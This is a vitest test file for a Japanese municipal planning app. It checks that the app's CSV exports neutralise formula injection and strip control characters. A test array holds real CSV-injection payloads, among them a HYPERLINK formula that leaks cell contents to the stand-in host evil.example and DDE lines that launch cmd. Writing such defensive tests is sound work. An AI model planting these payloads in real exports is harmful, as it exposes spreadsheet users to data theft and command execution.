// CSV injection (OWASP) and control characters, in every CSV Tassei writes: the open-data CSV
// and the planning dashboard's tables.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { demoDocument } from "../../../test/support/fixtures.ts";
import type { PlanningDashboard } from "../../domain/dashboard.ts";
import type { ManifestoDocument } from "../../domain/manifesto/schema.ts";
import { validateManifesto } from "../../domain/manifesto/validate.ts";
import { dashboardCsv } from "./dashboard.ts";
import { openDataCsv } from "./index.ts";
import { safeCsv, safeText } from "./safe-csv.ts";

const read = (csv: string): string[][] => parse(csv, { bom: true, record_delimiter: "\r\n" });

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

describe("safeText", () => {
  it("makes every cell that would start a formula start with an apostrophe", () => {
    for (const attack of ATTACKS) {
      const safe = safeText(attack);
      expect(safe.startsWith("'"), attack).toBe(true);
    }
    expect(safeText('=HYPERLINK("x")')).toBe(`'=HYPERLINK("x")`);
  });

  it("removes control characters, keeps line breaks, turns a tab into a space", () => {
    expect(safeText("a\u0000b\u0007c\u001Bd\u007Fe\u0085f")).toBe("abcdef");
    expect(safeText("一行目\r\n二行目\n三行目\r")).toBe("一行目\r\n二行目\n三行目");
    expect(safeText("語\t語")).toBe("語 語");
  });

  it("leaves ordinary text and numbers alone (a negative number stays a number)", () => {
    expect(safeText("市民の満足度55％以上")).toBe("市民の満足度55％以上");
    expect(safeText("7-1-①")).toBe("7-1-①");
    expect(
      read(
        safeCsv([
          ["a", "b"],
          [-5, 0.0000001],
        ]),
      ),
    ).toEqual([
      ["a", "b"],
      ["-5", "0.0000001"],
    ]);
  });
});

function demo(): ManifestoDocument {
  const v = validateManifesto(demoDocument());
  if (!v.ok) throw new Error(JSON.stringify(v.problems));
  return v.value;
}

describe("every CSV is safe", () => {
  it("the open-data CSV", () => {
    const doc = demo();
    const goal = doc.goals[0];
    const target = goal?.targets?.[0];
    if (!goal || !target) throw new Error("demo changed");
    goal.title = ATTACKS[0] ?? "";
    target.text = ATTACKS[1] ?? "";
    doc.department.name = "@総務部\u0007";
    const [header, first] = read(openDataCsv([{ doc }]));
    const at = (name: string) => first?.[header?.indexOf(name) ?? -1];
    expect(at("目標")).toBe(`'${ATTACKS[0]}`);
    expect(at("達成目標")).toBe(`'${ATTACKS[1]}`);
    expect(at("部局名")).toBe("'@総務部");
    expect(at("基準値")).toBe("51.3");
  });

  it("the dashboard's tables", () => {
    const dashboard = {
      municipality: { code: "242161", name: "伊賀市" },
      fiscalYear: 2023,
      scale: { name: "尺度", levels: [] },
      departments: [],
      totals: {},
      indicators: [],
      warnings: [
        {
          manifestoId: 1,
          department: "=1+1",
          goalNumber: 1,
          goalTitle: "+cmd|' /C calc'!A0",
          target: null,
          code: "missing_result",
          message: "-ok\u0000",
        },
      ],
    } as unknown as PlanningDashboard;
    const [, row] = read(dashboardCsv(dashboard, "warnings"));
    expect(row).toEqual(["'=1+1", "1", "'+cmd|' /C calc'!A0", "", "missing_result", "'-ok", "1"]);
  });
});
